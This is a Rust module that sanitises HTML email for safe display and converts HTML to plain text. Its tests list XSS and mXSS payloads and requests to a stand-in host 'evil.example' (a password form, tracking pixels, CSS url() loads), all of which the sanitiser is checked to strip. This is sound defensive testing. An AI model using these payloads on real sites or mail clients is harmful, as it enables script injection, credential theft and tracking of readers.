//! HTML that is safe to show, and text made of it.

use std::borrow::Cow;
use std::collections::{BTreeMap, HashSet};

use ammonia::{Builder, UrlRelative};

use super::markup::{Piece, Pieces, well_formed};
use super::names::beginning;
use crate::core::text::escape_html;

/// Octets of HTML that are made safe; the text beside it shows the rest.
const HTML_OCTETS: usize = 500_000;

/// Octets of one character reference without its `&`: `thetasym;` and the like, and numbers.
const REFERENCE_OCTETS: usize = 11;

/// Octets of one link that are kept.
const LINK_OCTETS: usize = 4_000;

/// What stands in for the rest of the web.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Remote {
    /// Nothing is loaded from elsewhere: whoever sent it does not learn that it was read.
    Blocked,
    /// Images over `https` and `http` are shown; the reader asked for them.
    Shown,
}

/// Makes a mail's HTML safe to show inside a page of ours: no scripts, no forms, no frames, no styles
/// that leave their place, links that open elsewhere and tell nothing. Of images only those inside
/// the mail are shown, whose `cid:` is looked up in `images` (content id → address of ours), and
/// small ones written out in the HTML (`data:`); those elsewhere as `remote` says.
pub fn sanitise(html: &str, remote: Remote, images: &BTreeMap<String, String>) -> String {
    let html = well_formed(beginning(html, HTML_OCTETS));
    let images = images.clone();
    let schemes = ["http", "https", "mailto", "tel", "cid", "data"];
    let styles = [
        "color",
        "background-color",
        "font-weight",
        "font-style",
        "font-size",
        "font-family",
        "text-align",
        "text-decoration",
        "vertical-align",
        "line-height",
        "white-space",
        "padding",
        "padding-left",
        "padding-right",
        "padding-top",
        "padding-bottom",
        "border",
        "border-left",
        "border-right",
        "border-top",
        "border-bottom",
        "border-collapse",
    ];
    let mut builder = Builder::default();
    builder
        .add_tags(["font", "tfoot", "address", "main", "section"])
        .rm_tags(["map", "area", "details", "summary", "nav"])
        .rm_tag_attributes("blockquote", ["cite"])
        .rm_tag_attributes("q", ["cite"])
        .rm_tag_attributes("del", ["cite"])
        .rm_tag_attributes("ins", ["cite"])
        .add_tag_attributes("font", ["color", "size", "face"])
        .add_tag_attributes(
            "table",
            ["border", "cellpadding", "cellspacing", "width", "bgcolor"],
        )
        .add_tag_attributes("td", ["width", "valign", "bgcolor"])
        .add_generic_attributes(["style", "dir"])
        .filter_style_properties(HashSet::from(styles))
        .url_schemes(HashSet::from(schemes))
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(
            move |element, attribute, value| match (element, attribute) {
                ("a", "href") => link(value),
                ("img", "src") => image(value, remote, &images),
                (_, "style") => style(value),
                (_, _) => Some(Cow::Borrowed(value)),
            },
        );
    builder.clean(&html).to_string()
}

fn link(value: &str) -> Option<Cow<'_, str>> {
    let trimmed = value.trim();
    let scheme = scheme(trimmed)?;
    let known = ["http", "https", "mailto", "tel"].contains(&scheme.as_str());
    (known && trimmed.len() <= LINK_OCTETS).then_some(Cow::Borrowed(trimmed))
}

fn image<'a>(
    value: &'a str,
    remote: Remote,
    images: &BTreeMap<String, String>,
) -> Option<Cow<'a, str>> {
    let trimmed = value.trim();
    let (_, rest) = trimmed.split_once(':')?;
    match (scheme(trimmed)?.as_str(), remote) {
        ("cid", _) => images.get(rest).map(|it| Cow::Owned(it.clone())),
        ("data", _) => {
            let kinds = ["image/png;", "image/jpeg;", "image/gif;", "image/webp;"];
            let kind = rest.to_ascii_lowercase();
            let known = kinds.iter().any(|it| kind.starts_with(it));
            known.then_some(Cow::Borrowed(trimmed))
        }
        ("http" | "https", Remote::Shown) => Some(Cow::Borrowed(trimmed)),
        (_, Remote::Blocked | Remote::Shown) => None,
    }
}

/// No functions but those of colours: `url(…)` loads, and escapes hide it.
fn style(value: &str) -> Option<Cow<'_, str>> {
    let lowered = value.to_ascii_lowercase();
    let plain = lowered.replace("rgba(", "").replace("rgb(", "");
    let safe = !plain.contains(['(', '\\', '@', '<']) && !plain.contains("/*");
    safe.then_some(Cow::Borrowed(value))
}

fn scheme(value: &str) -> Option<String> {
    let (scheme, _) = value.split_once(':')?;
    Some(scheme.to_ascii_lowercase())
}

/// A plain text as HTML that looks the same.
pub(super) fn of_text(text: &str) -> String {
    let text = escape_html(text);
    format!("<div style=\"white-space: pre-wrap\">{text}</div>")
}

/// HTML as plain text: paragraphs, lists, quotations and the addresses of links stay recognisable.
pub(super) fn text_of(html: &str) -> String {
    let html = beginning(html, HTML_OCTETS);
    let mut writer = Writer::default();
    let mut links: Vec<(String, usize)> = Vec::new();
    for piece in Pieces::of(html) {
        match piece {
            Piece::Text(text) => writer.text(&unescaped(text)),
            Piece::Start(name, attributes) => {
                let value = |name: &str| {
                    let found = attributes.iter().find(|(it, _)| it == name);
                    found.map(|(_, value)| unescaped(value))
                };
                match name.as_str() {
                    "br" => writer.line(),
                    "p" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "table" | "ul" | "ol"
                    | "dl" => {
                        writer.paragraph();
                    }
                    "div" | "tr" | "dt" | "dd" | "address" | "section" | "article" => {
                        writer.new_line();
                    }
                    "li" => {
                        writer.new_line();
                        writer.text("- ");
                    }
                    "td" | "th" => writer.text(" "),
                    "hr" => {
                        writer.new_line();
                        writer.text("----");
                        writer.new_line();
                    }
                    "blockquote" => writer.quote(true),
                    "pre" => {
                        writer.paragraph();
                        writer.kept = writer.kept.saturating_add(1);
                    }
                    "a" => links.push((value("href").unwrap_or_default(), writer.out.len())),
                    "img" => writer.text(&value("alt").unwrap_or_default()),
                    _ => {}
                }
            }
            Piece::End(name) => match name.as_str() {
                "p" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "table" | "ul" | "ol" | "dl" => {
                    writer.paragraph();
                }
                "div" | "tr" | "li" | "address" | "section" | "article" => writer.new_line(),
                "blockquote" => writer.quote(false),
                "pre" => {
                    writer.kept = writer.kept.saturating_sub(1);
                    writer.paragraph();
                }
                "a" => {
                    if let Some((href, begin)) = links.pop() {
                        writer.link(&href, begin);
                    }
                }
                _ => {}
            },
        }
    }
    writer.out.trim().to_owned()
}

/// Collects text, with blanks drawn together.
#[derive(Default)]
struct Writer {
    out: String,
    /// Depth of quotation.
    quotes: usize,
    /// Depth of what keeps its blanks.
    kept: usize,
    /// A blank is due before the next word.
    blank: bool,
}

impl Writer {
    fn text(&mut self, text: &str) {
        if self.kept > 0 {
            for (place, line) in text.split('\n').enumerate() {
                if place > 0 {
                    self.line();
                }
                self.begin();
                self.out.push_str(line);
            }
            return;
        }
        for (place, word) in text.split(char::is_whitespace).enumerate() {
            if place > 0 {
                self.blank = true;
            }
            if word.is_empty() {
                continue;
            }
            self.begin();
            if std::mem::take(&mut self.blank) && !self.out.ends_with(['\n', ' ']) {
                self.out.push(' ');
            }
            self.out.push_str(word);
        }
    }

    /// At the beginning of a line, its marks of quotation.
    fn begin(&mut self) {
        const QUOTES: usize = 10;
        if self.out.is_empty() || self.out.ends_with('\n') {
            for _ in 0..self.quotes.min(QUOTES) {
                self.out.push('>');
            }
            if self.quotes > 0 {
                self.out.push(' ');
            }
            self.blank = false;
        }
    }

    fn line(&mut self) {
        self.out.push('\n');
        self.blank = false;
    }

    fn new_line(&mut self) {
        if !self.out.is_empty() && !self.out.ends_with('\n') {
            self.line();
        }
        self.blank = false;
    }

    fn paragraph(&mut self) {
        self.new_line();
        if !self.out.is_empty() && !self.out.ends_with("\n\n") {
            self.line();
        }
    }

    fn quote(&mut self, deeper: bool) {
        self.new_line();
        self.quotes = match deeper {
            true => self.quotes.saturating_add(1),
            false => self.quotes.saturating_sub(1),
        };
    }

    /// The address after the words of a link, unless they are the same.
    fn link(&mut self, href: &str, begin: usize) {
        let href = href.trim();
        let words = self.out.get(begin..).unwrap_or_default().trim();
        let bare = href
            .trim_start_matches("mailto:")
            .trim_start_matches("tel:");
        let web = link(href).is_some() && href.len() <= 500;
        let same = words.is_empty()
            || [href, bare, href.trim_end_matches('/')].contains(&words)
            || href.trim_start_matches("https://").trim_end_matches('/') == words;
        if web && !same {
            self.text(&format!(" <{href}>"));
        }
    }
}

/// Character references that are common in mails; others stay as they are.
fn unescaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('&') {
        out.push_str(before);
        let name = beginning(after, REFERENCE_OCTETS).split_once(';');
        let found = name.and_then(|(name, _)| Some((name, reference(name)?)));
        match found {
            Some((name, c)) => {
                out.push(c);
                rest = after
                    .get(name.len().saturating_add(1)..)
                    .unwrap_or_default();
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

fn reference(name: &str) -> Option<char> {
    if let Some(number) = name.strip_prefix('#') {
        let code = match number.strip_prefix(['x', 'X']) {
            Some(digits) => u32::from_str_radix(digits, 16).ok()?,
            None => number.parse().ok()?,
        };
        let c = char::from_u32(code)?;
        return (c == '\n' || c == '\t' || !c.is_control()).then_some(c);
    }
    Some(match name {
        "amp" => '&',
        "lt" => '<',
        "gt" => '>',
        "quot" => '"',
        "apos" => '\'',
        "nbsp" => '\u{a0}',
        "shy" => '\u{ad}',
        "ndash" => '–',
        "mdash" => '—',
        "hellip" => '…',
        "bull" => '•',
        "middot" => '·',
        "lsquo" => '‘',
        "rsquo" => '’',
        "sbquo" => '‚',
        "ldquo" => '“',
        "rdquo" => '”',
        "bdquo" => '„',
        "laquo" => '«',
        "raquo" => '»',
        "euro" => '€',
        "pound" => '£',
        "copy" => '©',
        "reg" => '®',
        "trade" => '™',
        "deg" => '°',
        "times" => '×',
        "sect" => '§',
        "aring" => 'å',
        "Aring" => 'Å',
        "oslash" => 'ø',
        "Oslash" => 'Ø',
        "aelig" => 'æ',
        "AElig" => 'Æ',
        "auml" => 'ä',
        "Auml" => 'Ä',
        "ouml" => 'ö',
        "Ouml" => 'Ö',
        "uuml" => 'ü',
        "Uuml" => 'Ü',
        "szlig" => 'ß',
        "eacute" => 'é',
        "Eacute" => 'É',
        "egrave" => 'è',
        "ecirc" => 'ê',
        "agrave" => 'à',
        "acirc" => 'â',
        "ccedil" => 'ç',
        "ntilde" => 'ñ',
        "ocirc" => 'ô',
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn safe(html: &str) -> String {
        let images = BTreeMap::from([("logo@x".to_owned(), "/files/1".to_owned())]);
        sanitise(html, Remote::Blocked, &images)
    }

    #[test]
    fn nothing_that_runs_loads_or_sends_is_left() {
        for html in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" jAvAsCrIpT&colon;alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<iframe src=//evil.example></iframe>",
            "<form action=//evil.example><input name=password><button>x</button></form>",
            "<object data=//evil.example></object><embed src=//evil.example>",
            "<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example>",
            "<img src=\"https://evil.example/pixel.gif\">",
            "<img src=\"//evil.example/pixel.gif\">",
            "<img srcset=\"https://evil.example/pixel.gif 2x\">",
            "<table background=\"https://evil.example/x\"><tr><td>x</td></tr></table>",
            "<p style=\"background-image:url(https://evil.example/x)\">x</p>",
            "<p style=\"background-color:u\\72l(https://evil.example/x)\">x</p>",
            "<p style=\"position:fixed;top:0\">x</p>",
            "<video poster=https://evil.example/x></video>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<div id=location name=x class=admin>x</div>",
        ] {
            let safe = safe(html).to_ascii_lowercase();
            for bad in [
                "script:",
                "<script",
                "alert",
                "evil.example",
                "onerror",
                "onload",
                "<form",
                "<input",
                "<iframe",
                "<style",
                "position",
                "url(",
                "svg",
                " id=",
                " class=",
                "<meta",
                "<base",
                "<link",
                "data:text",
            ] {
                assert!(!safe.contains(bad), "{bad} in {safe} from {html}");
            }
        }
    }

    #[test]
    fn what_is_harmless_stays() {
        assert_eq!(
            safe("<p style=\"color:red; position:fixed\">Hi <b>you</b></p>"),
            "<p style=\"color:red\">Hi <b>you</b></p>"
        );
        assert_eq!(
            safe("<img src=\"cid:logo@x\" alt=Logo><img src=\"cid:other@x\">"),
            "<img src=\"/files/1\" alt=\"Logo\"><img>"
        );
        let link = safe("<a href=\"https://example.com/?a=1&amp;b=2\">x</a>");
        for part in [
            "href=\"https://example.com/?a=1&amp;b=2\"",
            "target=\"_blank\"",
            "rel=\"noopener noreferrer nofollow\"",
        ] {
            assert!(link.contains(part), "{part} in {link}");
        }
        let image = "<img src=\"https://example.com/a.png\">";
        assert_eq!(safe(image), "<img>");
        assert_eq!(sanitise(image, Remote::Shown, &BTreeMap::new()), image);
    }

    #[test]
    fn html_reads_as_text() {
        let html = "<html><head><title>x</title><style>p{}</style></head><body>\
            <h1>Hello&nbsp;K&aring;re</h1><p>One\n  two<br>three &lt;b&gt; &#8364;5</p>\
            <ul><li>first<li>second</ul>\
            <a href=\"https://example.com/x\">here</a> <a href=\"mailto:a@x.no\">a@x.no</a>\
            <blockquote>quoted<br>twice</blockquote><pre>a  b\n c</pre><table><tr><td>1</td><td>2</td></tr></table>";
        assert_eq!(
            text_of(html),
            "Hello Kåre\n\nOne two\nthree <b> €5\n\n- first\n- second\n\n\
             here <https://example.com/x> a@x.no\n> quoted\n> twice\n\na  b\n c\n\n1 2"
        );
        assert_eq!(text_of(""), "");
        assert_eq!(text_of("a & b &unknown; &#0; &"), "a & b &unknown; &#0; &");
    }

    #[test]
    fn text_is_shown_as_it_was_written() {
        assert_eq!(
            safe(&of_text("a <b> & c\n d")),
            "<div style=\"white-space:pre-wrap\">a &lt;b&gt; &amp; c\n d</div>"
        );
    }
}
